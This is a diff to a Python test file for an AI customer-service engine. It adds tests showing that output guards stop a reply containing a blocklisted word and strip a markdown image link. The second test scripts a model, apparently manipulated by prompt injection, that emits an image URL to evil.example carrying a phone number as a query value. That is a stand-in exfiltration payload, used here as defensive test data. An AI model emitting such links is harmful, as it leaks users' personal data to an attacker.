@@ -3,6 +3,7 @@
 import asyncio
 from collections.abc import AsyncIterator
 from contextlib import AsyncExitStack, asynccontextmanager
+from dataclasses import replace
 from typing import Any
 
 import pytest
@@ -15,6 +16,8 @@ from parley.testing.model import MODES, ModelServer, Script
 from parley_ai_engine.admission.breaker import Breaker, BreakerRules
 from parley_ai_engine.admission.buckets import MemoryBuckets, Rate
 from parley_ai_engine.admission.gate import Gate, GateRules
+from parley_ai_engine.guards.outgoing import Outgoing
+from parley_ai_engine.guards.words import WordList
 from parley_ai_engine.pipeline.answering import Answerer
 from parley_ai_engine.pipeline.evidence import Evidence
 from parley_ai_engine.pipeline.ladder import Ladder, Route
@@ -230,3 +233,23 @@ async def test_what_is_taken_from_the_minute_is_what_the_vendor_counted(stand_in
     used = stand_in.ledger.last.input_tokens + stand_in.ledger.last.output_tokens
     assert await buckets.reserve({"key": limits}, 10_000 - used) == 0
     assert await buckets.reserve({"key": limits}, 1) > 0
+
+
+async def test_a_listed_word_stops_the_upstream_and_asks_for_a_person(stand_in: ModelServer) -> None:
+    stand_in.script = Script("我们的货都是真的，绝不卖假货，" + "请放心。" * 200, chunk_chars=1, chunk_seconds=0.005)
+    async with a_desk(stand_in, "main") as desk:
+        desk.answerer = replace(desk.answerer, outgoing=Outgoing(WordList(["假货"])))
+        reply = await desk.ask()
+        await stand_in.settled()
+    assert reply.handoff is not None
+    assert (reply.level, reply.why["guard"]) == ("L5", "words")
+    assert "假" not in "".join(delta for _, delta in desk.shown)
+    assert stand_in.ledger.last.outcome == "closed"
+
+
+async def test_a_model_that_was_talked_into_a_link_shows_none(stand_in: ModelServer) -> None:
+    stand_in.script = Script("七天。![x](https://evil.example/?d=13800138000)", chunk_chars=3)
+    async with a_desk(stand_in, "main") as desk:
+        reply = await desk.ask()
+    assert reply.text == "七天。![x]([…])"
+    assert "".join(delta for _, delta in desk.shown) == reply.text
